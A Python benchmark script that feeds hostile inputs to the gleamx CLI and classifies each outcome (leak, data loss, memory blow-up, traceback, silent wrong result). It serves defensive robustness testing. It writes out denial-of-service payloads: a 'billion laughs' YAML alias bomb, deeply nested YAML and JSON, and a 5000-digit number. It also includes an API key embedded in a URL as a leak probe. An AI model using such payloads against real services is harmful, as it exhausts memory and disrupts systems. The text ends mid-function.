"""Hostile inputs (issue 23): one hostile case per cause, replayed against gleamx as it is, each outcome classified.

Every case runs in a fresh temporary directory (its own ``GLEAMX_CACHE`` too) on tiny inputs: a copy of one
``gleamx data synth --n 8`` dataset, PIL images, a loopback OpenAI-compatible stub. The CLI is called in this
process (``gleamx.cli.main.main([...])``, stdout and stderr captured, peak RSS sampled from ``/proc/self/statm``
every few ms) where that is safe; a case that can blow up memory, recurse without a guard or import torch runs
``gleamx`` in a subprocess under a timeout and ``RLIMIT_AS`` (4 GB; 10 GB where torch is imported), whose peak
RSS (its ``VmHWM``) is counted from its RSS after the imports it would make anyway. Each case checks for its bad class:
the user's file bytes before and after, the secret grepped in every output and saved file, RSS measured, the
result compared with what is right. The classes, worst first (a case gets the worst that applies):

    leak          a secret appears in what was printed or saved
    data-loss     a file the user wrote, or an input, was changed or deleted
    memory        peak RSS growth over 500 MB, or a MemoryError
    traceback     an exception that is not a GleamError, or a traceback on stderr
    silent-wrong  exit 0 / no error, but a wrong or stale result, or input silently dropped
    slow          over 10 s where a one-line error was expected (or killed at the timeout)
    vague         a one-line error that names none of the file, flag or field it should, or that refuses valid input
    clean         a one-line ``error: WHAT: why`` (or report line) naming the file, flag or field, or the correct
                  result, with no user data changed

Prints a table (case, cause, class, the first line of what the user saw, seconds, peak extra RSS MB), why each
case got its class, the count per class and ``hostile cases: N clean of M``. The first line seen is the
``error:`` line, else ``Traceback ... <the exception>``, else the first output line; paths are shown relative to
the case's temp folder. Seconds and RSS are the hostile command's own (not the setup's). ``vague`` is not one of
issue 23's classes: it keeps a refusal that names nothing, or a refused valid input, out of ``clean``. Always exits
0: it is a measurement.

    python benchmark/bench_hostile.py                  # every case: 2-3 min on 2 cores
    python benchmark/bench_hostile.py --quick          # skips the cases over ~20 s (~20 s in all)
    python benchmark/bench_hostile.py --only synth-into-user-folder,synth-yaml-duplicate-keys
    python benchmark/bench_hostile.py --list

The counts go to ``benchmark/results/bench_hostile.json`` (``results/quick/`` for ``--quick``); a run of chosen
cases (``--only``) writes none: it is not the benchmark.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import hashlib
import http.client
import io
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
CLASSES = ("clean", "vague", "slow", "silent-wrong", "traceback", "memory", "data-loss", "leak")
SEVERITY = {c: i for i, c in enumerate(CLASSES)}  # the worst class that applies wins
CAUSES = {1: "secrets/redaction", 2: "output folders", 3: "resume of another run", 4: "image crashes processor",
          5: "unbounded numbers", 6: "parsers without guards", 7: "checks accept wrong", 8: "local servers",
          9: "metric models offline"}
MEMORY_MB = 500  # peak RSS growth that counts as a memory blow-up
SLOW_S = 10.0  # a one-line error should come within this
QUICK_S = 20.0  # --quick skips cases estimated over this
GB = 1 << 30
SEEN_WIDTH = 78

# A subprocess runs the CLI after importing what the command will import anyway (``preimport``), so its RSS after
# the imports is the baseline that "peak extra RSS" is counted from; its peak is its VmHWM, read by the parent
# while it runs and written by the child at exit. Third-party import chatter is quieted first, as the CLI does.
_CHILD = r"""
import atexit, importlib, json, os, sys
from gleamx.console import quiet_third_party
quiet_third_party()
for name in json.loads(sys.argv[1]):
    importlib.import_module(name)
with open("/proc/self/statm") as f:
    rss = int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
with open(sys.argv[2], "w") as f:
    f.write(str(rss))

def peak():  # this process's own high-water RSS since exec (ru_maxrss would count the parent's, forked before it)
    try:
        with open("/proc/self/status") as f:
            kb = next(int(ln.split()[1]) for ln in f if ln.startswith("VmHWM:"))
        with open(sys.argv[2] + ".peak", "w") as f:
            f.write(str(kb * 1024))
    except Exception:
        pass

atexit.register(peak)
from gleamx.cli.main import main
sys.exit(main(sys.argv[3:]))
"""

# --- one command's run ------------------------------------------------------------------------------------------


def _rss() -> int:
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


class _PeakRss:
    """Peak RSS growth of this process while the block runs, sampled every 2 ms from /proc/self/statm."""

    def __enter__(self) -> _PeakRss:
        self.base = self.peak = _rss()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()
        return self

    def _sample(self) -> None:
        while not self._stop.wait(0.002):
            self.peak = max(self.peak, _rss())

    def __exit__(self, *exc: Any) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, _rss())

    @property
    def extra_mb(self) -> float:
        return (self.peak - self.base) / 2**20


def _is_progress(line: str) -> bool:
    return any(mark in line for mark in ("━", "█", "it/s]", "%|"))


@dataclass
class Run:
    """One hostile command (or request) and what came back."""

    what: str
    rc: int | None = None  # None: killed (timeout or signal)
    out: str = ""
    err: str = ""
    seconds: float = 0.0
    peak_mb: float = 0.0
    exc: BaseException | None = None  # in-process: an exception that escaped gleamx's main()
    exc_text: str = ""
    timed_out: bool = False
    signal: int | None = None
    seen_override: str | None = None

    @property
    def error_line(self) -> str | None:
        return next((ln.strip() for ln in self.err.splitlines() if ln.strip().startswith("error: ")), None)

    @property
    def gleam_error(self) -> bool:
        from gleamx.errors import GleamError

        return isinstance(self.exc, GleamError)

    @property
    def traceback(self) -> bool:
        return (self.exc is not None and not self.gleam_error) or "Traceback (most recent call last)" in self.err

    @property
    def memory_error(self) -> bool:
        text = self.err + self.exc_text
        return isinstance(self.exc, MemoryError) or "MemoryError" in text or "bad_alloc" in text

    def exception_line(self) -> str:
        if self.exc is not None:
            return f"{type(self.exc).__name__}: {str(self.exc).splitlines()[0] if str(self.exc) else ''}".strip()
        lines = [ln.strip() for ln in self.err.splitlines() if ln.strip()]
        after = lines[lines.index("Traceback (most recent call last):") + 1:] if \
            "Traceback (most recent call last):" in lines else lines
        return next((ln for ln in reversed(after) if not ln.startswith(("File ", "^", "~"))), "")

    def seen(self, prefer: tuple[str, ...] = ()) -> str:
        """The first line of what the user saw: the ``error:`` line, else the exception a traceback ends in, else
        the first output line naming one of ``prefer``, else the first line of stderr, then stdout."""
        if self.seen_override is not None:
            return self.seen_override
        if self.timed_out:
            return f"(no answer: killed after {self.seconds:.0f} s)"
        if self.error_line:
            return self.error_line
        if self.traceback:
            return f"Traceback ... {self.exception_line()}"
        if self.signal is not None:
            return f"(killed by signal {self.signal})"
        lines = [ln.strip() for text in (self.err, self.out) for ln in text.splitlines()
                 if ln.strip() and not _is_progress(ln)]
        named = next((ln for ln in lines if any(p.lower() in ln.lower() for p in prefer)), None)
        return named or (lines[0] if lines else f"(nothing printed; exit {self.rc})")


# --- the context a case runs in ---------------------------------------------------------------------------------


class Ctx:
    def __init__(self, tmp: Path, template: Path, quick: bool) -> None:
        self.tmp, self.template, self.quick = tmp, template, quick
        self.runs: list[Run] = []

    def data(self, name: str = "D") -> Path:
        """A fresh copy of the tiny synth dataset (8 samples, retrieval layout included)."""
        dest = self.tmp / name
        shutil.copytree(self.template, dest)
        return dest

    def gleamx(self, *argv: str, sub: bool = False, timeout: float = 90.0, preimport: tuple[str, ...] = (),
               as_gb: float = 4, env: dict[str, str] | None = None, setup: bool = False) -> Run:
        """``gleamx ARGV`` in this process (``sub=False``) or in a subprocess under ``timeout`` and
        ``RLIMIT_AS`` = ``as_gb``; ``setup`` runs are not the hostile step (not timed in the table)."""
        if self.quick:
            timeout = min(timeout, 30.0)
        run = (self._subprocess if sub else self._in_process)(list(argv), timeout, preimport, as_gb, env or {})
        if not setup:
            self.runs.append(run)
        return run

    def record(self, run: Run) -> Run:
        self.runs.append(run)
        return run

    def _in_process(self, argv: list[str], timeout: float, preimport: tuple[str, ...], as_gb: float,
                    env: dict[str, str]) -> Run:
        from gleamx.cli.main import main

        run = Run("gleamx " + " ".join(argv))
        out, err = io.StringIO(), io.StringIO()
        with _env(env), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), _PeakRss() as peak:
            t0 = time.perf_counter()
            try:
                run.rc = main(argv)
            except SystemExit as e:
                run.rc = e.code if isinstance(e.code, int) else (0 if e.code is None else 1)
            except BaseException as e:  # noqa: BLE001 - what escapes gleamx's main is the measurement
                run.exc, run.exc_text, run.rc = e, traceback.format_exc(), 1
            run.seconds = time.perf_counter() - t0
        run.out, run.err, run.peak_mb = out.getvalue(), err.getvalue(), peak.extra_mb
        return run

    def _subprocess(self, argv: list[str], timeout: float, preimport: tuple[str, ...], as_gb: float,
                    env: dict[str, str]) -> Run:
        run = Run("gleamx " + " ".join(argv))
        base_file = self.tmp / f".rss-base-{len(self.runs)}-{time.monotonic_ns()}"
        logs = [self.tmp / f".{n}-{time.monotonic_ns()}" for n in ("out", "err")]
        limit = int(as_gb * GB)

        def limits() -> None:
            resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

        full_env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]),
                    "HF_HUB_OFFLINE": "1", "OMP_NUM_THREADS": "1", "TOKENIZERS_PARALLELISM": "false",
                    "PYTHONUNBUFFERED": "1", **env}
        with logs[0].open("wb") as fo, logs[1].open("wb") as fe:
            t0 = time.perf_counter()
            proc = subprocess.Popen([sys.executable, "-c", _CHILD, json.dumps(list(preimport)), str(base_file), *argv],
                                    cwd=self.tmp, env=full_env, stdout=fo, stderr=fe, stdin=subprocess.DEVNULL,
                                    preexec_fn=limits, start_new_session=True)
            hwm = 0
            while True:
                hwm = max(hwm, _vm_hwm(proc.pid))
                pid, status, _ = os.wait4(proc.pid, os.WNOHANG)
                if pid:
                    break
                if time.perf_counter() - t0 > timeout:
                    run.timed_out = True
                    with contextlib.suppress(ProcessLookupError):
                        os.killpg(proc.pid, signal.SIGKILL)
                    pid, status, _ = os.wait4(proc.pid, 0)
                    break
                time.sleep(0.02)
            run.seconds = time.perf_counter() - t0
        proc.returncode = os.waitstatus_to_exitcode(status)  # reaped here; Popen must not wait again
        if proc.returncode < 0:
            run.signal = -proc.returncode
        else:
            run.rc = proc.returncode
        run.out, run.err = (p.read_text(encoding="utf-8", errors="replace") for p in logs)
        for p in logs:
            p.unlink()
        base = 0  # died before its imports finished: the whole peak counts
        for path in (base_file, Path(f"{base_file}.peak")):
            try:
                value = int(path.read_text())
                path.unlink()
            except (OSError, ValueError):
                continue
            if path == base_file:
                base = value
            else:
                hwm = max(hwm, value)
        run.peak_mb = max(0.0, (hwm - base) / 2**20)
        return run


def _vm_hwm(pid: int) -> int:
    """The high-water RSS of a running process, in bytes (0 once it has exited)."""
    try:
        with open(f"/proc/{pid}/status") as f:
            return next((int(ln.split()[1]) * 1024 for ln in f if ln.startswith("VmHWM:")), 0)
    except OSError:
        return 0


@contextlib.contextmanager
def _env(values: dict[str, str]) -> Iterator[None]:
    old = {k: os.environ.get(k) for k in values}
    os.environ.update(values)
    try:
        yield
    finally:
        for k, v in old.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


def snapshot(*paths: Path) -> dict[str, str]:
    """sha256 of every file under ``paths`` (a file or a folder), by path."""
    files: dict[str, str] = {}
    for root in paths:
        for p in [root] if root.is_file() else sorted(q for q in root.rglob("*") if q.is_file()):
            files[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return files


def changes(before: dict[str, str], tmp: Path) -> list[str]:
    """The files of ``before`` now deleted or with other bytes (paths relative to ``tmp``)."""
    out = []
    for path, digest in before.items():
        p = Path(path)
        rel = os.path.relpath(p, tmp)
        if not p.is_file():
            out.append(f"{rel} deleted")
        elif hashlib.sha256(p.read_bytes()).hexdigest() != digest:
            out.append(f"{rel} changed")
    return out


def leaked(secret: str, runs: list[Run], root: Path) -> list[str]:
    """Where ``secret`` shows: a run's stdout/stderr/traceback, or a file under ``root``."""
    where = [f"{r.what.split()[1]} output" for r in runs if secret in r.out + r.err + r.exc_text]
    blob = secret.encode()
    where += [os.path.relpath(p, root) for p in sorted(root.rglob("*")) if p.is_file() and blob in p.read_bytes()]
    return where


def judge(run: Run, names: tuple[str, ...] = (), *, expect_error: bool = True, changed: list[str] = (),
          leaks: list[str] = (), wrong: str | None = None) -> tuple[str, str]:
    """(class, why) of one run: the worst class that applies (see the module docstring); why lists every one."""
    found: list[tuple[str, str]] = []
    if leaks:
        found.append(("leak", f"secret in {', '.join(leaks)}"))
    if changed:
        found.append(("data-loss", "; ".join(changed)))
    if run.memory_error or run.peak_mb > MEMORY_MB:
        found.append(("memory", ("MemoryError, " if run.memory_error else "") + f"peak extra RSS {run.peak_mb:.0f} MB"))
    crashed = run.traceback or (run.signal is not None and not run.timed_out)
    if run.traceback:
        found.append(("traceback", run.exception_line()[:160]))
    elif crashed:
        found.append(("traceback", f"crashed: killed by signal {run.signal}"))
    if wrong:
        found.append(("silent-wrong", wrong))
    if run.timed_out:
        found.append(("slow", f"no answer within {run.seconds:.0f} s (killed)"))
    elif not crashed and expect_error:
        if run.rc == 0 and not wrong:
            found.append(("silent-wrong", "exit 0 where an error was expected"))
        elif run.rc != 0:
            if run.seconds > SLOW_S:
                found.append(("slow", f"the error took {run.seconds:.1f} s"))
            text = run.error_line or (run.err + run.out)
            if names and not any(n.lower() in text.lower() for n in names):
                found.append(("vague", f"the error names none of {', '.join(names)}"))
    elif not crashed and run.rc != 0:
        found.append(("vague", f"a valid input refused (exit {run.rc})"))
    if not found:
        if not expect_error:
            return "clean", "correct result"
        text = (run.error_line or (run.err + run.out)).lower()
        named = next((n for n in names if n.lower() in text), None)
        return "clean", f"refused (exit {run.rc})" + (f", naming {named}" if named else "")
    found.sort(key=lambda f: -SEVERITY[f[0]])
    (cls, why), rest = found[0], found[1:]
    return cls, why + "".join(f"; also {c}: {w}" for c, w in rest)


# --- the cases ----------------------------------------------------------------------------------------------------


@dataclass
class Case:
    name: str
    cause: int
    fn: Callable[[Ctx], tuple[str, str]]
    est_s: float  # rough wall time on 2 idle cores (for --quick)
    prefer: tuple[str, ...] = ()  # what the "first line seen" should be picked by, when there is no error line


CASES: list[Case] = []


def case(name: str, cause: int, est_s: float = 2.0, prefer: tuple[str, ...] = ()) -> Callable:
    def register(fn: Callable[[Ctx], tuple[str, str]]) -> Callable[[Ctx], tuple[str, str]]:
        CASES.append(Case(name, cause, fn, est_s, prefer))
        return fn

    return register


# cause 1: secrets. A loopback OpenAI-compatible stub answers every annotation request with a fixed, already
# canonical explanation (full of the letter "a"), so what annotate saves must be these bytes exactly.

_EN_BODY = "A park and a canal appear at the same angle in each; a plaza and a parking area match as well."
_ZH_BODY = "两张图像中都能看到公园、运河和广场，道路布局与建筑位置一一对应。"


def _annotator_reply(body: dict[str, Any]) -> str:
    from gleamx.curate.annotate import PROMPTS
    from gleamx.task.verdict import verdict_line

    user = next(m for m in body["messages"] if m["role"] == "user" and isinstance(m["content"], list))
    text = user["content"][-1]["text"]
    lang = "zh" if "图1" in text else "en"
    label = PROMPTS[lang]["label_given"][True] in text
    return f"{_EN_BODY if lang == 'en' else _ZH_BODY}\n{verdict_line(label, lang)}"


@contextlib.contextmanager
def stub_server() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """An OpenAI-compatible chat completions stub on 127.0.0.1 (port 0): its ``/v1`` URL and the requests seen."""
    seen: list[dict[str, Any]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # noqa: N802
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            seen.append({"path": self.path, "auth": self.headers.get("Authorization", "")})
            data = json.dumps({
                "id": "chatcmpl-1", "object": "chat.completion", "created": 0, "model": body.get("model", "m"),
                "choices": [{"index": 0, "finish_reason": "stop",
                             "message": {"role": "assistant", "content": _annotator_reply(body)}}],
                "usage": {"prompt_tokens": 100, "completion_tokens": 20, "total_tokens": 120}}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1", seen
    finally:
        server.shutdown()
        server.server_close()


def _annotate_args(data: Path, url: str, out: Path) -> list[str]:
    return ["annotate", "--data", str(data), "--split", "train", "--limit", "2", "--model", "stub", "--base-url", url,
            "--out", str(out), "--timeout", "10", "--max-retries", "0"]


@case("annotate-one-char-key", 1, est_s=3)
def _annotate_short_key(ctx: Ctx) -> tuple[str, str]:
    """OPENAI_API_KEY=a: the saved explanations must be byte-identical to the server's replies."""
    from gleamx.curate.annotate import ANNOTATED_NAME, CACHE_NAME
    from gleamx.task.verdict import verdict_line

    data, out = ctx.data(), ctx.tmp / "annotated"
    with stub_server() as (url, seen):
        run = ctx.gleamx(*_annotate_args(data, url, out), env={"OPENAI_API_KEY": "a"})
    if run.rc != 0 or run.exc is not None:
        return judge(run, expect_error=False)
    rows = [json.loads(ln) for ln in (out / ANNOTATED_NAME).read_text(encoding="utf-8").splitlines()]
    bodies = {"en": _EN_BODY, "zh": _ZH_BODY}
    bad = [f"{r['id']}/{lang}" for r in rows for lang in ("en", "zh")
           if r["explanation"].get(lang) != f"{bodies[lang]}\n{verdict_line(r['label'], lang)}"]
    cache = [json.loads(ln) for ln in (out / CACHE_NAME).read_text(encoding="utf-8").splitlines() if ln.strip()]
    bad += [f"cache {c['id']}/{c['lang']}" for c in cache if c.get("status") == "ok" and c.get("reply") not in
            {f"{bodies[c['lang']]}\n{verdict_line(v, c['lang'])}" for v in (True, False)}]
    if bad:
        return "data-loss", f"saved text differs from the server's reply: {', '.join(bad[:4])}"
    if len(rows) != 2 or len(seen) != 4 or any(s["auth"] != "Bearer a" for s in seen):
        return "silent-wrong", f"{len(rows)} samples saved of 2, {len(seen)} requests of 4"
    return "clean", "4 replies saved byte-identical (key 'a' sent as the Bearer header only)"


@case("annotate-key-in-base-url", 1, est_s=2)
def _annotate_key_in_url(ctx: Ctx) -> tuple[str, str]:
    """A key inside --base-url must never be printed or saved."""
    data, out = ctx.data(), ctx.tmp / "annotated"
    with stub_server() as (url, seen):
        run = ctx.gleamx(*_annotate_args(data, url + "?key=SECRET123", out), env={"OPENAI_API_KEY": "sk-test-00000000"})
    return judge(run, ("--base-url",), leaks=leaked("SECRET123", [run], ctx.tmp))


# cause 2: output folders


@case("synth-into-user-folder", 2)
def _synth_user_folder(ctx: Ctx) -> tuple[str, str]:
    out = ctx.tmp / "mine"
    out.mkdir()
    (out / "notes.txt").write_text("my field notes, not gleamx's\n", encoding="utf-8")
    before = snapshot(out)
    run = ctx.gleamx("data", "synth", "--out", str(out), "--n", "8")
    return judge(run, ("--out",), changed=changes(before, ctx.tmp),
                 wrong="wrote its dataset into a folder holding the user's notes.txt" if run.rc == 0 else None)


@case("merge-out-is-base", 2, est_s=8)
def _merge_out_base(ctx: Ctx) -> tuple[str, str]:
    base, adapter = ctx.tmp / "base", ctx.tmp / "adapter"
    base.mkdir()
    adapter.mkdir()
    (base / "config.json").write_text('{"model_type": "qwen2_5_vl"}\n', encoding="utf-8")
    (base / "model.safetensors").write_bytes(b"\0" * 4096)  # the user's weights (as far as bytes go)
    (adapter / "adapter_config.json").write_text(json.dumps({"peft_type": "LORA", "base_model_name_or_path":
                                                             str(base)}), encoding="utf-8")
    before = snapshot(base, adapter)
    run = ctx.gleamx("merge", "--base", str(base), "--adapter", str(adapter), "--out", str(base), sub=True,
                     preimport=("torch", "gleamx.models.adapter"), as_gb=10)
    return judge(run, ("--out",), changed=changes(before, ctx.tmp))


@case("review-import-overwrite-user-notes", 2)
def _review_import_notes(ctx: Ctx) -> tuple[str, str]:
    data, out = ctx.data(), ctx.tmp / "revised"
    out.mkdir()
    (out / "notes.jsonl").write_text('{"note": "the user\'s own file"}\n', encoding="utf-8")
    first = json.loads((data / "test.jsonl").read_text(encoding="utf-8").splitlines()[0])
    revisions = ctx.tmp / "revisions.jsonl"
    revisions.write_text(json.dumps({"id": first["id"], "decision": "accept"}) + "\n", encoding="utf-8")
    before = snapshot(out / "notes.jsonl", data, revisions)
    run = ctx.gleamx("review", "import", "--data", str(data), "--split", "test", "--revisions", str(revisions),
                     "--out", str(out), "--overwrite")
    lost = changes(before, ctx.tmp)
    if run.rc == 0 and not lost:
        return "clean", "imported; the user's notes.jsonl kept byte-identical"
    return judge(run, ("--out", "notes.jsonl"), changed=lost)


@case("pairs-out-is-retrieval", 2)
def _pairs_out_retrieval(ctx: Ctx) -> tuple[str, str]:
    data = ctx.data()
    before = snapshot(data)
    run = ctx.gleamx("data", "pairs", "--retrieval", str(data), "--out", str(data))
    return judge(run, ("--out",), changed=changes(before, ctx.tmp))


@case("out-is-a-file", 2)
def _out_is_file(ctx: Ctx) -> tuple[str, str]:
    target = ctx.tmp / "results.txt"
    target.write_text("the user's results\n", encoding="utf-8")
    before = snapshot(target)
    run = ctx.gleamx("data", "synth", "--out", str(target), "--n", "8")
    return judge(run, ("--out",), changed=changes(before, ctx.tmp))


# cause 3: a resume that accepts another run


@case("retrieval-resume-other-seed", 3, est_s=25)
def _retrieval_seed(ctx: Ctx) -> tuple[str, str]:
    data, out = ctx.data(), ctx.tmp / "encoder"
    common = ("retrieval", "train", "--config", str(ROOT / "recipes" / "retrieval" / "tiny.yaml"), "--data", str(data),
              "--output_dir", str(out), "--batch_size", "2", "--epochs", "1")
    pre = ("torch", "timm", "gleamx.recipes.retrieval")
    first = ctx.gleamx(*common, sub=True, preimport=pre, as_gb=10, setup=True, timeout=180)
    if first.rc != 0 or not (out / "model.safetensors").is_file():
        ctx.record(first)
        return "vague", f"the first (valid) run failed: {first.seen()[:100]}"
    before = snapshot(out / "model.safetensors")
    run = ctx.gleamx(*common, "--seed", "1", sub=True, preimport=pre, as_gb=10, timeout=180)
    lost = changes(before, ctx.tmp)
    if run.rc == 0 and not lost:
        return "silent-wrong", "resumed a seed-0 run with --seed 1"
    return judge(run, ("seed",), changed=lost)


# cause 4: an image that passes checks and crashes the processor


@case("validate-1x300-png", 4, prefer=("loc00000.png",))
def _thin_image(ctx: Ctx) -> tuple[str, str]:
    from PIL import Image

    data = ctx.data()
    Image.new("RGB", (1, 300), (90, 140, 60)).save(data / "images" / "uav" / "loc00000.png")
    run = ctx.gleamx("data", "validate", str(data))
    return judge(run, ("loc00000.png",))


# cause 5: unbounded numbers and configs


@case("pairs-neg-ratio-1e7", 5, est_s=60)
def _neg_ratio(ctx: Ctx) -> tuple[str, str]:
    data = ctx.data()
    run = ctx.gleamx("data", "pairs", "--retrieval", str(data), "--out", str(ctx.tmp / "pairs"), "--neg-ratio", "1e7",
                     sub=True, preimport=("gleamx.curate.pairs",), timeout=120)
    wrong = None
    if run.rc == 0:
        rows = sum(len(p.read_text(encoding="utf-8").splitlines()) for p in (ctx.tmp / "pairs").glob("*.jsonl"))
        wrong = f"exit 0 after {run.seconds:.0f} s: {rows} pairs written, the 1e7 negatives per query capped in a note"
    return judge(run, ("--neg-ratio",), wrong=wrong)


_LAUGHS = "\n".join(
    ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    + [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    + ["n: *a9", "out: laughs-out", ""])


@case("synth-billion-laughs-config", 5, est_s=35)
def _billion_laughs(ctx: Ctx) -> tuple[str, str]:
    config = ctx.tmp / "laughs.yaml"
    config.write_text(_LAUGHS, encoding="utf-8")
    run = ctx.gleamx("data", "synth", "--config", str(config), sub=True, preimport=("gleamx.synth",),
                     timeout=60)
    return judge(run, ("laughs.yaml", "alias", "--config"))


@case("synth-5000-digit-n", 5, est_s=3)
def _huge_n(ctx: Ctx) -> tuple[str, str]:
    run = ctx.gleamx("data", "synth", "--out", str(ctx.tmp / "out"), "--n", "9" * 5000, sub=True,
                     preimport=("gleamx.synth",), timeout=60)
    return judge(run, ("--n",))


@case("pairs-nan-split-fractions", 5)
def _nan_fractions(ctx: Ctx) -> tuple[str, str]:
    data = ctx.data()
    run = ctx.gleamx("data", "pairs", "--retrieval", str(data), "--out", str(ctx.tmp / "pairs"),
                     "--split-fractions", "nan,0.5,0.5")
    return judge(run, ("--split-fractions",))


# cause 6: parsers without guards


@case("synth-5000-deep-yaml-config", 6, est_s=4)
def _deep_yaml(ctx: Ctx) -> tuple[str, str]:
    config = ctx.tmp / "deep.yaml"
    config.write_text("out: deep-out\nn: " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    run = ctx.gleamx("data", "synth", "--config", str(config), sub=True, preimport=("gleamx.synth",),
                     timeout=60)
    return judge(run, ("deep.yaml",))


@case("review-import-5000-deep-json", 6, est_s=4)
def _deep_json(ctx: Ctx) -> tuple[str, str]:
    data = ctx.data()
    revisions = ctx.tmp / "revisions.jsonl"
    revisions.write_text("[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    run = ctx.gleamx("review", "import", "--data", str(data), "--split", "test", "--revisions", str(revisions),
                     "--out", str(ctx.tmp / "revised"), sub=True, preimport=("gleamx.curate.review", "gleamx.data"),
                     timeout=60)
    return judge(run, ("revisions.jsonl",))


# cause 7: checks that accept wrong input


@case("annotate-out-is-data", 7, est_s=3)
def _annotate_into_data(ctx: Ctx) -> tuple[str, str]:
    data = ctx.data()
    before = snapshot(data)
    with stub_server() as (url, _):
        run = ctx.gleamx(*_annotate_args(data, url, data), env={"OPENAI_API_KEY": "sk-test-00000000"})
    return judge(run, ("--out",), changed=changes(before, ctx.tmp))


@case("pairs-duplicate-query-id", 7)
def _duplicate_query_id(ctx: Ctx) -> tuple[str, str]:
    data = ctx.data()
    queries = data / "retrieval" / "queries.jsonl"
    lines = queries.read_text(encoding="utf-8").splitlines()
    row = json.loads(lines[0]) | {"image": json.loads(lines[1])["image"]}  # the first id again, another image
    queries.write_text("\n".join(lines + [json.dumps(row)]) + "\n", encoding="utf-8")
    run = ctx.gleamx("data", "pairs", "--retrieval", str(data), "--out", str(ctx.tmp / "pairs"))
    return judge(run, ("query_id",), wrong=f"exit 0: query_id {row['query_id']!r} twice accepted"
                 if run.rc == 0 else None)


@case("manifest-image-roots-slash", 7, prefer=("gleamx_manifest.json",))
def _manifest_roots(ctx: Ctx) -> tuple[str, str]:
    from PIL import Image

    data = ctx.data()
    elsewhere = ctx.tmp / "elsewhere"
    elsewhere.mkdir()
    Image.new("RGB", (64, 64), (10, 20, 30)).save(elsewhere / "private.png")
    rows = [json.loads(ln) for ln in (data / "test.jsonl").read_text(encoding="utf-8").splitlines()]
    rows[0]["query_image"] = str(elsewhere / "private.png")  # outside the dataset: only a manifest root allows it
    (data / "test.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    (data / "gleamx_manifest.json").write_text(json.dumps(
        {"gleamx_manifest": 1, "written_in": os.path.realpath(data), "image_roots": ["/"]}), encoding="utf-8")
    run = ctx.gleamx("data", "validate", str(data))
    return judge(run, ("gleamx_manifest.json",),
                 wrong="exit 0: the hand-written manifest's root / was trusted" if run.rc == 0 else None)


@case("synth-yaml-duplicate-keys", 7)
def _duplicate_keys(ctx: Ctx) -> tuple[str, str]:
    config, out = ctx.tmp / "dup.yaml", ctx.tmp / "dup-out"
    config.write_text(f"out: {out}\nn: 4\nn: 6\n", encoding="utf-8")
    run = ctx.gleamx("data", "synth", "--config", str(config))
    wrong = None
    if run.rc == 0:
        n = sum(len(p.read_text(encoding="utf-8").splitlines()) for p in out.glob("*.jsonl"))
        wrong = f"exit 0: 'n' given twice (4, 6), {n} samples written, no word of it"
    return judge(run, ("dup.yaml", "'n'", "duplicate key"), wrong=wrong)


@case("grpo-reward-weights-nan", 7, est_s=12)
def _reward_nan(ctx: Ctx) -> tuple[str, str]:
    run = ctx.gleamx("grpo", "--config", "tiny/grpo", "--reward_weights", "nan", "1", sub=True, as_gb=10,
                     preimport=("torch", "trl", "gleamx.recipes.grpo"), timeout=120)
    loaded = [p for p in ("outputs", "models") if (ctx.tmp / p).exists()]
    wrong = f"got as far as writing {', '.join(loaded)}/ before refusing" if loaded else None
    if run.rc == 0:
        wrong = "exit 0: trained with a NaN reward weight"
    return judge(run, ("reward_weights",), wrong=wrong)


@case("validate-columns-on-a-folder", 7)
def _columns_on_folder(ctx: Ctx) -> tuple[str, str]:
    """A column mapping applies to a Hugging Face dataset: given for a gleamx folder it would change nothing."""
    run = ctx.gleamx("data", "validate", str(ctx.data()), "--columns", "label=match")
    return judge(run, ("columns",), wrong="exit 0: --columns label=match ignored" if run.rc == 0 else None)


@case("push-preview-into-generated-data", 2, est_s=3)
def _push_preview_into_data(ctx: Ctx) -> tuple[str, str]:
    """``data push --preview-dir`` naming another gleamx command's output (a generated dataset): a push replaces
    its preview folder whole."""
    data, other = ctx.data(), ctx.data("other")
    before = snapshot(other)
    run = ctx.gleamx("data", "push", str(data), "--repo-id", "me/x", "--dry-run", "--preview-dir", str(other))
    return judge(run, ("--preview-dir",), changed=changes(before, ctx.tmp))


@case("eval-stream-split-with-no-samples", 2)
def _eval_empty_split(ctx: Ctx) -> tuple[str, str]:
    """A split that holds no sample, read as a stream: one line, and no output folder left behind."""
    data, preds, out = ctx.data(), ctx.tmp / "preds.jsonl", ctx.tmp / "eval"
    preds.write_text("", encoding="utf-8")
    run = ctx.gleamx("eval", "--predictions", str(preds), "--data", str(data), "--split", "nosuch", "--streaming",
                     "--output", str(out))
    wrong = ("exit 0: a report of n=0" if run.rc == 0 else
             f"refused, but left {os.path.relpath(out, ctx.tmp)}/ behind" if out.exists() else None)
